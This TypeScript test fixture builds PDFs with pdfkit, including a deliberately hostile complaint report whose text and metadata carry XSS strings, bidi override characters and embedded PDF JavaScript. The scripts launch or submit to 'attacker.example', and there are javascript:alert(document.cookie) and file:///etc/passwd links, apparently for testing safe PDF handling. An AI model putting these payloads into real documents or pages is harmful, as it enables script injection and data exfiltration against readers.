import { buffer } from 'node:stream/consumers';
import { fileURLToPath } from 'node:url';
import PdfDocument from 'pdfkit';

const font = fileURLToPath(import.meta.resolve('@expo-google-fonts/pt-serif/400Regular/PTSerif_400Regular.ttf'));

/** A PDF with these paragraphs, drawn as a program would. */
export function drawPdf(
  paragraphs: readonly string[],
  { draw, ...options }: PDFKit.PDFDocumentOptions & { readonly draw?: (document: PDFKit.PDFDocument) => void } = {},
): Promise<Buffer> {
  const document = new PdfDocument({ size: 'A4', margin: 60, font, ...options });
  for (const words of paragraphs)
    document
      .fontSize(/^#/u.test(words) ? 15 : 11)
      .text(words.replace(/^# /u, ''))
      .moveDown();
  draw?.(document);
  document.end();
  return buffer(document);
}

/** Actions that a reader of PDFs may carry out: scripts when it is opened, by name and by a click, and addresses. */
function addScripts(document: PDFKit.PDFDocument): void {
  const put = (data: Record<string, unknown>) => {
    const made = document.ref(data);
    made.end(undefined);
    return made;
  };
  const script = (words: string) => put({ S: 'JavaScript', JS: new String(words) });
  const root = (document as unknown as { _root: { data: Record<string, unknown> } })._root.data;
  root.OpenAction = script('app.alert("opened"); app.launchURL("http://attacker.example/");');
  root.AA = put({ WC: script('app.alert("closed")') });
  const named = script('app.alert("named"); this.submitForm("http://attacker.example/");');
  root.Names = put({ JavaScript: put({ Names: [new String('start'), named] }) });
  document.annotate(60, 60, 200, 40, { Subtype: 'Link', A: script('app.alert("clicked")') } as never);
  document.link(60, 110, 200, 40, 'javascript:alert(document.cookie)');
  document.link(60, 160, 200, 40, 'file:///etc/passwd');
}

/** Words that would be more than words if a page took them as they are. */
export const hostile = {
  script: '<script>alert(1)</script><img src=x onerror=alert(2)>"\'`&',
  bidi: '\u202Egnagtiu\u2066\u200F',
  long: 'x'.repeat(20_000),
} as const;

/** A report of which the title, the names and the passages are hostile, in a PDF that would run scripts. */
export function hostilePdf(): Promise<Buffer> {
  const { script, bidi } = hostile;
  // Of letters that nobody would take for those of a scan.
  const long = 'behoorlijkheidsvereiste'.repeat(60);
  return drawPdf(
    [
      `# Rapport ${script} ${bidi}`,
      `Rapport over een klacht over de gemeente ${script} te Rotterdam. Rapportnummer: 2001/002. Datum: 3 mei 2001`,
      '# Klacht',
      `Verzoekster ${script} klaagt erover dat de gemeente ${script} haar brief ${bidi} niet beantwoordt. ${long}`,
      '# Beoordeling',
      `Het vereiste van voortvarendheid houdt in dat ${script} een brief wordt beantwoord (javascript:alert(1)).`,
      '# Conclusie',
      `De klacht over de gemeente ${script} is gegrond, wegens schending van het vereiste van voortvarendheid ${bidi}.`,
      '# Aanbeveling',
      `De gemeente ${script} wordt in overweging gegeven om brieven te beantwoorden ${bidi}.`,
    ],
    { info: { Title: script, Author: script }, draw: addScripts },
  );
}
